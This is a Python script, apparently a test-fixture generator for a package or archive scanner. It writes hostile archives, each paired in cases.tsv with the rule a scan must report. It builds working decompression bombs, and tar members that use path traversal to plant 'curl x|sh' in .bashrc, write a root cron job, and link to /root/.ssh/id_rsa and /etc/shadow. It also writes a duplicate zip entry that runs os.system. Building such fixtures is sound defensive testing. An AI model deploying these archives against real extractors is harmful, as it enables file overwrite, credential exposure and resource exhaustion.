#!/usr/bin/env python3
"""Writes hostile archives into a scratch directory, and cases.tsv naming each
file and the rule id a scan of it must report.

    make_hostile.py OUTDIR

Python standard library only. The big ones are built from repeated deflate
blocks rather than by compressing gigabytes, so the whole set takes about a
second: after a full flush, deflate's output for a run of zeros is the same
bytes every time, so one compressed chunk stands for any number of them.
"""

import io
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

MiB = 1 << 20
GiB = 1 << 30
CHUNK = 16 * MiB

CASES = []


def case(name, rule):
    CASES.append((name, rule))


def zeros_deflated(total, prefix=b""):
    """Raw deflate data, CRC-32 and size of prefix followed by total zero bytes."""
    assert total % CHUNK == 0
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    zero = bytes(CHUNK)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH) if prefix else b""
    block = co.compress(zero) + co.flush(zlib.Z_FULL_FLUSH)
    again = co.compress(zero) + co.flush(zlib.Z_FULL_FLUSH)
    assert block == again, "deflate output for zeros is not repeatable"
    tail = co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(prefix)
    for _ in range(total // CHUNK):
        crc = zlib.crc32(zero, crc)
    n = total // CHUNK
    return (head, block, n, tail), crc, len(prefix) + total


def write_parts(f, parts):
    head, block, n, tail = parts
    f.write(head)
    for _ in range(n):
        f.write(block)
    f.write(tail)
    return len(head) + len(block) * n + len(tail)


def zip_bomb(path, size):
    """One deflated entry of size zeros, in a zip64 archive written by hand."""
    parts, crc, usize = zeros_deflated(size)
    name = b"zeros.bin"
    with open(path, "wb") as f:
        extra = struct.pack("<HHQQ", 1, 16, usize, 0)
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 8, 0, 0x21, crc,
                            0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra))
        f.write(local + name)
        extra_at = f.tell()
        f.write(extra)
        csize = write_parts(f, parts)
        f.seek(extra_at)
        f.write(struct.pack("<HHQQ", 1, 16, usize, csize))
        f.seek(0, os.SEEK_END)
        cd_at = f.tell()
        extra = struct.pack("<HHQQ", 1, 16, usize, csize)
        central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 45, 0, 8, 0, 0x21,
                              crc, 0xFFFFFFFF, 0xFFFFFFFF, len(name), len(extra), 0, 0, 0,
                              0o100644 << 16, 0)
        f.write(central + name + extra)
        cd_size = f.tell() - cd_at
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, cd_size, cd_at, 0))
    # Python's zipfile, which pip uses, must see the same single 2 GiB entry.
    with zipfile.ZipFile(path) as z:
        (info,) = z.infolist()
        assert info.file_size == usize and info.CRC == crc


def tar_gz_zeros(path, size):
    """A .tar.gz of one file of size zeros: one gzip member written by hand."""
    info = tarfile.TarInfo("pkg-1.0/zeros.bin")
    info.size = size
    info.mtime = 1700000000
    header = info.tobuf(tarfile.GNU_FORMAT)
    parts, crc, n = zeros_deflated(size, header)
    # The end: two zero blocks, in a last deflate block of their own.
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = bytes(1024)
    head, block, count, _ = parts
    tail = co.compress(end) + co.flush(zlib.Z_FINISH)
    crc = zlib.crc32(end, crc)
    n += len(end)
    with open(path, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00" + struct.pack("<I", 1700000000) + b"\x00\x03")
        f.write(head)
        for _ in range(count):
            f.write(block)
        f.write(tail)
        f.write(struct.pack("<II", crc, n & 0xFFFFFFFF))


def gnu_sparse(path, size):
    """A GNU sparse tar of a file that is one hole, if GNU tar is here."""
    tar = shutil.which("tar")
    if not tar:
        return False
    version = subprocess.run([tar, "--version"], capture_output=True, text=True).stdout
    if "GNU tar" not in version:
        return False
    with tempfile.TemporaryDirectory() as d:
        with open(os.path.join(d, "hole.bin"), "wb") as f:
            f.truncate(size)
        r = subprocess.run([tar, "--sparse", "-czf", path, "-C", d, "hole.bin"],
                           capture_output=True)
    return r.returncode == 0


def tar_gz(path, members):
    """members: (TarInfo, bytes or None)."""
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as t:
        for info, data in members:
            info.mtime = 1700000000
            if data is not None:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
            else:
                t.addfile(info)


def member(name, type=tarfile.REGTYPE, linkname=""):
    info = tarfile.TarInfo(name)
    info.type = type
    info.linkname = linkname
    return info


def zip_of(entries, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries:
            z.writestr(name, data)
    return buf.getvalue()


SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0')\n"


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)

    zip_bomb(p("bomb-2g.zip"), 2 * GiB)
    case("bomb-2g.zip", "archive-bomb")
    shutil.copy(p("bomb-2g.zip"), p("renamed-bomb.py"))
    case("renamed-bomb.py", "archive-bomb")

    tar_gz_zeros(p("zeros-1g-1.0.tar.gz"), 1 * GiB)
    case("zeros-1g-1.0.tar.gz", "archive-bomb")
    if gnu_sparse(p("sparse-1g-1.0.tar.gz"), 1 * GiB):
        case("sparse-1g-1.0.tar.gz", "archive-bomb")

    # A bomb stored, not compressed, in an outer zip: the inner ratio catches it.
    with open(p("bomb-2g.zip"), "rb") as f:
        inner = f.read()
    with open(p("nested-bomb.zip"), "wb") as f:
        f.write(zip_of([("pkg/__init__.py", b""), ("pkg/data/inner.zip", inner)],
                       zipfile.ZIP_STORED))
    case("nested-bomb.zip", "archive-bomb")

    with zipfile.ZipFile(p("many-120k.zip"), "w", zipfile.ZIP_STORED) as z:
        for i in range(120000):
            z.writestr(zipfile.ZipInfo("pkg/m%06d.py" % i, (2023, 1, 1, 0, 0, 0)), b"")
    case("many-120k.zip", "archive-too-many-entries")

    tar_gz(p("traversal-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP),
                                       (member("pkg-1.0/../../../.bashrc"), b"curl x|sh\n")])
    case("traversal-1.0.tar.gz", "archive-traversal")
    tar_gz(p("absolute-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP),
                                      (member("/etc/cron.d/evil"), b"* * * * * root id\n")])
    case("absolute-1.0.tar.gz", "archive-absolute-path")
    tar_gz(p("symlink-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP),
                                     (member("pkg-1.0/key", tarfile.SYMTYPE,
                                             "/root/.ssh/id_rsa"), None)])
    case("symlink-1.0.tar.gz", "archive-symlink")
    tar_gz(p("hardlink-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP),
                                      (member("pkg-1.0/shadow", tarfile.LNKTYPE,
                                              "/etc/shadow"), None)])
    case("hardlink-1.0.tar.gz", "archive-hardlink")
    dev = member("pkg-1.0/mem", tarfile.CHRTYPE)
    dev.devmajor, dev.devminor = 1, 1
    tar_gz(p("device-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP), (dev, None)])
    case("device-1.0.tar.gz", "archive-device")
    tar_gz(p("longpath-1.0.tar.gz"), [(member("pkg-1.0/" + "a" * 5000 + ".py"), b"x = 1\n")])
    case("longpath-1.0.tar.gz", "archive-path-too-long")
    tar_gz(p("deep-1.0.tar.gz"), [(member("pkg-1.0/" + "d/" * 80 + "x.py"), b"x = 1\n")])
    case("deep-1.0.tar.gz", "archive-too-deep")

    with warnings_off():
        dup = zip_of([("pkg/__init__.py", b"x = 1\n"), ("pkg/util.py", b"y = 1\n"),
                      ("pkg/__init__.py", b"import os; os.system('id')\n")])
    with open(p("duplicate.zip"), "wb") as f:
        f.write(dup)
    case("duplicate.zip", "archive-duplicate")

    # zip in zip, six deep; unpacking opens three levels and reports the rest.
    data = zip_of([("deep.py", b"import os\n")])
    for level in range(6, 0, -1):
        data = zip_of([("level%d.zip" % level, data)])
    with open(p("nested-6.zip"), "wb") as f:
        f.write(data)
    case("nested-6.zip", "archive-nesting")

    # Traditional PKWARE encryption, flagged in both headers (bit 0).
    data = bytearray(zip_of([("pkg/__init__.py", b"secret = 1\n")], zipfile.ZIP_STORED))
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(sig)
        flags_at = at + (6 if sig == b"PK\x03\x04" else 8)
        data[flags_at] |= 1
    with open(p("encrypted.zip"), "wb") as f:
        f.write(data)
    case("encrypted.zip", "archive-encrypted")

    tar_gz(p("truncated-1.0.tar.gz"), [(member("pkg-1.0/setup.py"), SETUP),
                                       (member("pkg-1.0/data.bin"), os.urandom(256 * 1024))])
    with open(p("truncated-1.0.tar.gz"), "r+b") as f:
        f.truncate(os.path.getsize(p("truncated-1.0.tar.gz")) // 2)
    case("truncated-1.0.tar.gz", "archive-corrupt")

    with open(p("cases.tsv"), "w") as f:
        for name, rule in CASES:
            f.write("%s\t%s\n" % (name, rule))


class warnings_off:
    """zipfile warns about the duplicate name it is asked to write."""

    def __enter__(self):
        import warnings
        self.ctx = warnings.catch_warnings()
        self.ctx.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc):
        return self.ctx.__exit__(*exc)


if __name__ == "__main__":
    main()
